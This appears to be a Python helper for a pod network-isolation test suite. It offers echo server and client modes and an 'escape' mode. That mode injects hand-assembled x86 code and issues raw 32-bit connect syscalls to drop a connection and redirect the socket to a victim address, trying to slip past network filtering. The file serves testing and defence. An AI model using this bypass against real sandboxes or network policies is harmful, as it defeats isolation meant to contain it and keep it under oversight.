"""One half of a conversation between two pods; nodes_test.py runs it under supervision.

  talk.py server PORT            answers each line with the same line, one connection at a time
  talk.py client ADDRESS PORT    connects for each line of its input, and says what happened
  talk.py escape ADDRESS PORT VICTIM PORT
                                 leaves the connection by 32-bit calls and tries to reach the victim

Input and output are lines, so that whoever runs it decides when what happens.
"""

import ctypes
import mmap
import socket
import struct
import sys
import time


def server(port):
    listener = socket.create_server(('0.0.0.0', int(port)), backlog=64)
    print('ready', flush=True)
    while True:
        connection, _ = listener.accept()
        with connection:
            try:
                while data := connection.recv(4096):
                    connection.sendall(data)
            except OSError as error:
                print('error', error.errno, flush=True)


def client(address, port):
    """"new": connects, says hello, keeps the connection. "talk": says something on the last one."""
    print('ready', flush=True)
    connection = None
    for line in sys.stdin:
        begin = time.monotonic()
        try:
            if line.strip() == 'new':
                connection = socket.create_connection((address, int(port)), timeout=10)
            connection.sendall(b'hello')
            what = connection.recv(16).decode() or 'end'
        except OSError as error:
            what = f'error {error.errno}'
        print(what, round(time.monotonic() - begin, 3), flush=True)


# push rbx; mov eax, edi; mov ebx, esi; xchg edx, ecx; int 0x80; pop rbx; ret
CALL = bytes.fromhex('5389f889f387cacd805bc3')
CONNECT = 362  # of i386


def escape(address, port, victim, victim_port):
    for i in range(3):  # the first one may come before the shims know each other
        connection = socket.create_connection((address, int(port)), timeout=10)
        connection.sendall(b'hello')
        assert connection.recv(16) == b'hello'
        time.sleep(0.2)
        if i < 2:
            connection.close()
    low = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40,  # MAP_32BIT
                    prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    low[:len(CALL)] = CALL
    at = ctypes.addressof(ctypes.c_char.from_buffer(low))
    call = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_uint, ctypes.c_int)(at)

    def connect(family, address=None, port=0):
        name = struct.pack('=HH', family, socket.htons(port)) + (
            socket.inet_aton(address) if address else bytes(4)) + bytes(8)
        low[1024:1024 + len(name)] = name
        return call(CONNECT, connection.fileno(), at + 1024, len(name))

    print('disconnected', connect(socket.AF_UNSPEC), flush=True)
    connection.settimeout(1)
    reached = connect(socket.AF_INET, victim, int(victim_port))
    time.sleep(1)
    try:
        connection.getpeername()
        connection.recv(1)
        print('reached', reached, flush=True)
    except OSError as error:
        print('not reached', reached, error.errno, flush=True)


{'server': server, 'client': client, 'escape': escape}[sys.argv[1]](*sys.argv[2:])
